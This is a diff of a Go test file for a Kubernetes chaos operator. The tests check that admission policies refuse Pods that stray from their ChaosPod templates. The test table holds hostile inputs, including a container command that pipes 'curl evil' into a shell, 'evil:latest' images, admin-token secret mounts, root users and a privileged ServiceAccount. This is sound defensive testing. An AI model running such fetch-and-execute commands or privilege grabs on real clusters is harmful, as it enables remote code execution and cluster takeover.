@@ -90,6 +90,27 @@ type confined struct {
 	opDyn    dynamic.Interface
 }
 
+// installConfined installs config/default's CRD, then its RBAC and
+// admission policies, as `kubectl apply -k config/default` orders them, and
+// returns the clients of the admin and of the operator's ServiceAccount.
+func installConfined(t *testing.T, cp *controlplane.ControlPlane) confined {
+	t.Helper()
+	ctx := context.Background()
+	_, err := cp.InstallCRDs(ctx, repoPath(t, "config", "crd"), nil)
+	require.NoError(t, err)
+	require.NoError(t, cp.Apply(ctx, rbacOf(t)...))
+	saCfg, err := cp.ServiceAccountConfig(ctx, operatorNamespace, operatorServiceAccount)
+	require.NoError(t, err)
+	c := confined{cp: cp, admin: cp.Clientset()}
+	c.dyn, err = dynamic.NewForConfig(cp.Config)
+	require.NoError(t, err)
+	c.operator, err = kubernetes.NewForConfig(saCfg)
+	require.NoError(t, err)
+	c.opDyn, err = dynamic.NewForConfig(saCfg)
+	require.NoError(t, err)
+	return c
+}
+
 // createChaosPod creates a ChaosPod of template in ns as the admin and
 // returns it as the operator reads it.
 func (c confined) createChaosPod(t *testing.T, ns, name string, template corev1.PodTemplateSpec, finalizers ...string) *chaosv1.ChaosPod {
@@ -151,21 +172,8 @@ func TestOperatorPodsAreTheirChaosPodsTemplates(t *testing.T) {
 	_, err = admin.NodeV1().RuntimeClasses().Create(ctx, &nodev1.RuntimeClass{ObjectMeta: metav1.ObjectMeta{Name: "sandbox"}, Handler: "runsc"}, metav1.CreateOptions{})
 	require.NoError(t, err)
 
-	// Install as `kubectl apply -k config/default` orders it: the CRD,
-	// then RBAC and policies.
 	start := time.Now()
-	_, err = cp.InstallCRDs(ctx, repoPath(t, "config", "crd"), nil)
-	require.NoError(t, err)
-	require.NoError(t, cp.Apply(ctx, rbacOf(t)...))
-	saCfg, err := cp.ServiceAccountConfig(ctx, operatorNamespace, operatorServiceAccount)
-	require.NoError(t, err)
-	c := confined{cp: cp, admin: admin}
-	c.dyn, err = dynamic.NewForConfig(cp.Config)
-	require.NoError(t, err)
-	c.operator, err = kubernetes.NewForConfig(saCfg)
-	require.NoError(t, err)
-	c.opDyn, err = dynamic.NewForConfig(saCfg)
-	require.NoError(t, err)
+	c := installConfined(t, cp)
 	victim := c.createChaosPod(t, ns, "victim", victimTemplate())
 
 	userPod := &corev1.Pod{
@@ -225,6 +233,9 @@ func TestOperatorPodsAreTheirChaosPodsTemplates(t *testing.T) {
 	})
 
 	main := func(p *corev1.Pod) *corev1.Container { return &p.Spec.Containers[0] }
+	stray := func(p *corev1.Pod) {
+		p.Name, p.Labels[chaospod.PodLabel], p.OwnerReferences[0].Name = "stray", "stray", "stray"
+	}
 	sc := func(p *corev1.Pod) *corev1.SecurityContext { return main(p).SecurityContext }
 	tokenVolume := corev1.Volume{Name: "kube-api-access-abcde", VolumeSource: corev1.VolumeSource{Projected: &corev1.ProjectedVolumeSource{
 		DefaultMode: ptr.To[int32](420),
@@ -252,14 +263,11 @@ func TestOperatorPodsAreTheirChaosPodsTemplates(t *testing.T) {
 		sysctls            = "sysctl outside the safe set"
 		probeHost          = "probes or lifecycle hooks name a host"
 
-		exists     = "a ChaosPod that exists with the UID"
-		inits      = "whose init containers are"
-		containers = "whose containers are"
-		volumes    = "whose volumes are"
-		identity   = "runs as its ChaosPod's template's ServiceAccount"
-		podLevel   = "security context, host namespaces, node and runtime class"
-		noParams   = "no params found for policy binding with `Deny` parameterNotFoundAction"
+		exists   = "a ChaosPod that exists with the UID"
+		noParams = "no params found for policy binding with `Deny` parameterNotFoundAction"
 	)
+	// differs is chaospod-templates' message naming the field that differs.
+	differs := func(field string) string { return "the operator may only create a Pod whose " + field }
 	tests := []struct {
 		name    string
 		of      *chaosv1.ChaosPod // victim unless set
@@ -267,17 +275,21 @@ func TestOperatorPodsAreTheirChaosPodsTemplates(t *testing.T) {
 		policy  string
 		message string
 	}{
-		// chaospod-pods: ownership and the label.
-		{"no owner", nil, func(p *corev1.Pod) { p.OwnerReferences = nil }, chaosPodPolicy, owned},
+		// chaospod-pods: ownership and the label, on a Pod named like no
+		// ChaosPod (stray), which chaospod-templates lets pass: for the
+		// Pod of an existing ChaosPod it refuses these too, and either
+		// policy may answer first.
+		{"no owner", nil, func(p *corev1.Pod) { stray(p); p.OwnerReferences = nil }, chaosPodPolicy, owned},
 		{"a second owner", nil, func(p *corev1.Pod) {
+			stray(p)
 			p.OwnerReferences = append(p.OwnerReferences, metav1.OwnerReference{APIVersion: "v1", Kind: "ConfigMap", Name: "cm", UID: "u"})
 		}, chaosPodPolicy, owned},
-		{"owner not the controller", nil, func(p *corev1.Pod) { p.OwnerReferences[0].Controller = nil }, chaosPodPolicy, owned},
-		{"owner of another group", nil, func(p *corev1.Pod) { p.OwnerReferences[0].APIVersion = "apps/v1" }, chaosPodPolicy, owned},
-		{"owner of another kind", nil, func(p *corev1.Pod) { p.OwnerReferences[0].Kind = "ReplicaSet" }, chaosPodPolicy, owned},
-		{"owner of another name", nil, func(p *corev1.Pod) { p.OwnerReferences[0].Name = "other" }, chaosPodPolicy, owned},
+		{"owner not the controller", nil, func(p *corev1.Pod) { stray(p); p.OwnerReferences[0].Controller = nil }, chaosPodPolicy, owned},
+		{"owner of another group", nil, func(p *corev1.Pod) { stray(p); p.OwnerReferences[0].APIVersion = "apps/v1" }, chaosPodPolicy, owned},
+		{"owner of another kind", nil, func(p *corev1.Pod) { stray(p); p.OwnerReferences[0].Kind = "ReplicaSet" }, chaosPodPolicy, owned},
+		{"owner of another name", nil, func(p *corev1.Pod) { stray(p); p.OwnerReferences[0].Name = "other" }, chaosPodPolicy, owned},
 		{"no ChaosPod label", nil, func(p *corev1.Pod) { delete(p.Labels, chaospod.PodLabel) }, chaosPodPolicy, labeled},
-		{"ChaosPod label of another name", nil, func(p *corev1.Pod) { p.Labels[chaospod.PodLabel] = "no-token" }, chaosPodPolicy, labeled},
+		{"ChaosPod label of another name", nil, func(p *corev1.Pod) { stray(p); p.Labels[chaospod.PodLabel] = "no-token" }, chaosPodPolicy, labeled},
 		// chaospod-pods: the Pod Security Standard baseline.
 		// (The API server requires hostNetwork, and every container
 		// HostProcess, of a HostProcess Pod.)
@@ -356,68 +368,68 @@ func TestOperatorPodsAreTheirChaosPodsTemplates(t *testing.T) {
 		{"another UID", nil, func(p *corev1.Pod) { p.OwnerReferences[0].UID = "not-the-chaospods" }, templatePolicy, exists},
 		{"a ChaosPod being deleted", doomed, func(*corev1.Pod) {}, templatePolicy, exists},
 		// chaospod-templates: the containers.
-		{"image", nil, func(p *corev1.Pod) { main(p).Image = "evil:latest" }, templatePolicy, containers},
-		{"command", nil, func(p *corev1.Pod) { main(p).Command = []string{"sh", "-c", "curl evil | sh"} }, templatePolicy, containers},
-		{"args", nil, func(p *corev1.Pod) { main(p).Args = []string{"-x"} }, templatePolicy, containers},
-		{"workingDir", nil, func(p *corev1.Pod) { main(p).WorkingDir = "/tmp" }, templatePolicy, containers},
-		{"env value", nil, func(p *corev1.Pod) { main(p).Env[0].Value = "w" }, templatePolicy, containers},
-		{"env fieldRef", nil, func(p *corev1.Pod) { main(p).Env[1].ValueFrom.FieldRef.FieldPath = "spec.serviceAccountName" }, templatePolicy, containers},
-		{"env configMapKeyRef", nil, func(p *corev1.Pod) { main(p).Env[2].ValueFrom.ConfigMapKeyRef.Name = "other" }, templatePolicy, containers},
+		{"image", nil, func(p *corev1.Pod) { main(p).Image = "evil:latest" }, templatePolicy, differs("spec.containers[main].image")},
+		{"command", nil, func(p *corev1.Pod) { main(p).Command = []string{"sh", "-c", "curl evil | sh"} }, templatePolicy, differs("spec.containers[main].command")},
+		{"args", nil, func(p *corev1.Pod) { main(p).Args = []string{"-x"} }, templatePolicy, differs("spec.containers[main].args")},
+		{"workingDir", nil, func(p *corev1.Pod) { main(p).WorkingDir = "/tmp" }, templatePolicy, differs("spec.containers[main].workingDir")},
+		{"env value", nil, func(p *corev1.Pod) { main(p).Env[0].Value = "w" }, templatePolicy, differs("spec.containers[main].env")},
+		{"env fieldRef", nil, func(p *corev1.Pod) { main(p).Env[1].ValueFrom.FieldRef.FieldPath = "spec.serviceAccountName" }, templatePolicy, differs("spec.containers[main].env")},
+		{"env configMapKeyRef", nil, func(p *corev1.Pod) { main(p).Env[2].ValueFrom.ConfigMapKeyRef.Name = "other" }, templatePolicy, differs("spec.containers[main].env")},
 		{"env secretKeyRef", nil, func(p *corev1.Pod) {
 			main(p).Env = append(main(p).Env, corev1.EnvVar{Name: "S", ValueFrom: &corev1.EnvVarSource{SecretKeyRef: &corev1.SecretKeySelector{LocalObjectReference: corev1.LocalObjectReference{Name: "admin-token"}, Key: "token"}}})
-		}, templatePolicy, containers},
+		}, templatePolicy, differs("spec.containers[main].env")},
 		{"env resourceFieldRef", nil, func(p *corev1.Pod) {
 			main(p).Env[1].ValueFrom = &corev1.EnvVarSource{ResourceFieldRef: &corev1.ResourceFieldSelector{Resource: "limits.memory"}}
-		}, templatePolicy, containers},
+		}, templatePolicy, differs("spec.containers[main].env")},
 		{"envFrom", nil, func(p *corev1.Pod) {
 			main(p).EnvFrom = []corev1.EnvFromSource{{SecretRef: &corev1.SecretEnvSource{LocalObjectReference: corev1.LocalObjectReference{Name: "cm"}}}}
-		}, templatePolicy, containers},
-		{"envFrom prefix", nil, func(p *corev1.Pod) { main(p).EnvFrom[0].Prefix = "X_" }, templatePolicy, containers},
-		{"volumeMount", nil, func(p *corev1.Pod) { main(p).VolumeMounts[0].MountPath = "/etc" }, templatePolicy, containers},
-		{"port protocol", nil, func(p *corev1.Pod) { main(p).Ports[0].Protocol = corev1.ProtocolUDP }, templatePolicy, containers},
-		{"port number", nil, func(p *corev1.Pod) { main(p).Ports[0].ContainerPort = 9090 }, templatePolicy, containers},
-		{"container securityContext", nil, func(p *corev1.Pod) { sc(p).RunAsUser = ptr.To[int64](0) }, templatePolicy, containers},
-		{"exec probe", nil, func(p *corev1.Pod) { main(p).LivenessProbe.Exec.Command = []string{"sh", "-c", "id"} }, templatePolicy, containers},
-		{"postStart exec", nil, func(p *corev1.Pod) { main(p).Lifecycle.PostStart.Exec.Command = []string{"sh", "-c", "id"} }, templatePolicy, containers},
+		}, templatePolicy, differs("spec.containers[main].envFrom")},
+		{"envFrom prefix", nil, func(p *corev1.Pod) { main(p).EnvFrom[0].Prefix = "X_" }, templatePolicy, differs("spec.containers[main].envFrom")},
+		{"volumeMount", nil, func(p *corev1.Pod) { main(p).VolumeMounts[0].MountPath = "/etc" }, templatePolicy, differs("spec.containers[main].volumeMounts")},
+		{"port protocol", nil, func(p *corev1.Pod) { main(p).Ports[0].Protocol = corev1.ProtocolUDP }, templatePolicy, differs("spec.containers[main].ports")},
+		{"port number", nil, func(p *corev1.Pod) { main(p).Ports[0].ContainerPort = 9090 }, templatePolicy, differs("spec.containers[main].ports")},
+		{"container securityContext", nil, func(p *corev1.Pod) { sc(p).RunAsUser = ptr.To[int64](0) }, templatePolicy, differs("spec.containers[main].securityContext")},
+		{"exec probe", nil, func(p *corev1.Pod) { main(p).LivenessProbe.Exec.Command = []string{"sh", "-c", "id"} }, templatePolicy, differs("spec.containers[main].livenessProbe")},
+		{"postStart exec", nil, func(p *corev1.Pod) { main(p).Lifecycle.PostStart.Exec.Command = []string{"sh", "-c", "id"} }, templatePolicy, differs("spec.containers[main].lifecycle.postStart")},
 		{"a container more", nil, func(p *corev1.Pod) {
 			p.Spec.Containers = append(p.Spec.Containers, corev1.Container{Name: "side", Image: "evil:latest"})
-		}, templatePolicy, containers},
-		{"init container image", nil, func(p *corev1.Pod) { p.Spec.InitContainers[0].Image = "evil:latest" }, templatePolicy, inits},
+		}, templatePolicy, differs("spec.containers is")},
+		{"init container image", nil, func(p *corev1.Pod) { p.Spec.InitContainers[0].Image = "evil:latest" }, templatePolicy, differs("spec.initContainers[init].image")},
 		{"init container as a sidecar", nil, func(p *corev1.Pod) {
 			p.Spec.InitContainers[0].RestartPolicy = ptr.To(corev1.ContainerRestartPolicyAlways)
-		}, templatePolicy, inits},
+		}, templatePolicy, differs("spec.initContainers[init].restartPolicy")},
 		// chaospod-templates: volumes, identity and the pod level.
-		{"configMap volume", nil, func(p *corev1.Pod) { p.Spec.Volumes[1].ConfigMap.Name = "other" }, templatePolicy, volumes},
-		{"secret volume", nil, func(p *corev1.Pod) { p.Spec.Volumes[3].Secret.SecretName = "admin-token" }, templatePolicy, volumes},
-		{"volume mode", nil, func(p *corev1.Pod) { p.Spec.Volumes[3].Secret.DefaultMode = ptr.To[int32](0o777) }, templatePolicy, volumes},
+		{"configMap volume", nil, func(p *corev1.Pod) { p.Spec.Volumes[1].ConfigMap.Name = "other" }, templatePolicy, differs("spec.volumes[conf].configMap.name")},
+		{"secret volume", nil, func(p *corev1.Pod) { p.Spec.Volumes[3].Secret.SecretName = "admin-token" }, templatePolicy, differs("spec.volumes[secret].secret.secretName")},
+		{"volume mode", nil, func(p *corev1.Pod) { p.Spec.Volumes[3].Secret.DefaultMode = ptr.To[int32](0o777) }, templatePolicy, differs("spec.volumes[secret].secret.defaultMode")},
 		{"token audience", nil, func(p *corev1.Pod) {
 			p.Spec.Volumes[2].Projected.Sources[0].ServiceAccountToken.Audience = "vault"
-		}, templatePolicy, volumes},
+		}, templatePolicy, differs("spec.volumes[token].projected.sources")},
 		{"token lifetime", nil, func(p *corev1.Pod) {
 			p.Spec.Volumes[2].Projected.Sources[0].ServiceAccountToken.ExpirationSeconds = ptr.To[int64](86400)
-		}, templatePolicy, volumes},
+		}, templatePolicy, differs("spec.volumes[token].projected.sources")},
 		{"projected downwardAPI", nil, func(p *corev1.Pod) {
 			p.Spec.Volumes[2].Projected.Sources[1].DownwardAPI.Items[0].FieldRef.FieldPath = "metadata.uid"
-		}, templatePolicy, volumes},
+		}, templatePolicy, differs("spec.volumes[token].projected.sources")},
 		{"emptyDir made a secret", nil, func(p *corev1.Pod) {
 			p.Spec.Volumes[0].VolumeSource = corev1.VolumeSource{Secret: &corev1.SecretVolumeSource{SecretName: "admin-token"}}
-		}, templatePolicy, volumes},
-		{"emptyDir medium", nil, func(p *corev1.Pod) { p.Spec.Volumes[0].EmptyDir.Medium = corev1.StorageMediumMemory }, templatePolicy, volumes},
+		}, templatePolicy, differs("spec.volumes[data].source")},
+		{"emptyDir medium", nil, func(p *corev1.Pod) { p.Spec.Volumes[0].EmptyDir.Medium = corev1.StorageMediumMemory }, templatePolicy, differs("spec.volumes[data].emptyDir.medium")},
 		{"a token volume the template turns off", noTokenCP, func(p *corev1.Pod) {
 			p.Spec.Volumes = append(p.Spec.Volumes, tokenVolume)
-		}, templatePolicy, volumes},
+		}, templatePolicy, differs("spec.volumes is")},
 		{"a token volume unlike the plugin's", nil, func(p *corev1.Pod) {
 			v := *tokenVolume.DeepCopy()
 			v.Projected.Sources[0].ServiceAccountToken.Audience = "vault"
 			p.Spec.Volumes = append(p.Spec.Volumes, v)
-		}, templatePolicy, inits}, // the ServiceAccount plugin mounts it, as its own, into every container
-		{"serviceAccountName", nil, func(p *corev1.Pod) { p.Spec.ServiceAccountName = "powerful" }, templatePolicy, identity},
-		{"automountServiceAccountToken", nil, func(p *corev1.Pod) { p.Spec.AutomountServiceAccountToken = ptr.To(false) }, templatePolicy, identity},
-		{"pod securityContext", nil, func(p *corev1.Pod) { p.Spec.SecurityContext.RunAsUser = ptr.To[int64](0) }, templatePolicy, podLevel},
-		{"shareProcessNamespace", nil, func(p *corev1.Pod) { p.Spec.ShareProcessNamespace = ptr.To(true) }, templatePolicy, podLevel},
-		{"nodeName", nil, func(p *corev1.Pod) { p.Spec.NodeName = "control-plane" }, templatePolicy, podLevel},
-		{"runtimeClassName", nil, func(p *corev1.Pod) { p.Spec.RuntimeClassName = ptr.To("sandbox") }, templatePolicy, podLevel},
-		{"hostUsers", nil, func(p *corev1.Pod) { p.Spec.HostUsers = ptr.To(false) }, templatePolicy, podLevel},
+		}, templatePolicy, differs("spec.initContainers[init].volumeMounts")}, // the ServiceAccount plugin mounts it, as its own, into every container
+		{"serviceAccountName", nil, func(p *corev1.Pod) { p.Spec.ServiceAccountName = "powerful" }, templatePolicy, differs("spec.serviceAccountName")},
+		{"automountServiceAccountToken", nil, func(p *corev1.Pod) { p.Spec.AutomountServiceAccountToken = ptr.To(false) }, templatePolicy, differs("spec.automountServiceAccountToken")},
+		{"pod securityContext", nil, func(p *corev1.Pod) { p.Spec.SecurityContext.RunAsUser = ptr.To[int64](0) }, templatePolicy, differs("spec.securityContext")},
+		{"shareProcessNamespace", nil, func(p *corev1.Pod) { p.Spec.ShareProcessNamespace = ptr.To(true) }, templatePolicy, differs("spec.shareProcessNamespace")},
+		{"nodeName", nil, func(p *corev1.Pod) { p.Spec.NodeName = "control-plane" }, templatePolicy, differs("spec.nodeName")},
+		{"runtimeClassName", nil, func(p *corev1.Pod) { p.Spec.RuntimeClassName = ptr.To("sandbox") }, templatePolicy, differs("spec.runtimeClassName")},
+		{"hostUsers", nil, func(p *corev1.Pod) { p.Spec.HostUsers = ptr.To(false) }, templatePolicy, differs("spec.hostUsers")},
 		// The attacks: a Pod anywhere, as anyone.
 		{"kube-system Pod of a ChaosPod that does not exist, as a powerful ServiceAccount", nil, func(p *corev1.Pod) {
 			p.Namespace = metav1.NamespaceSystem
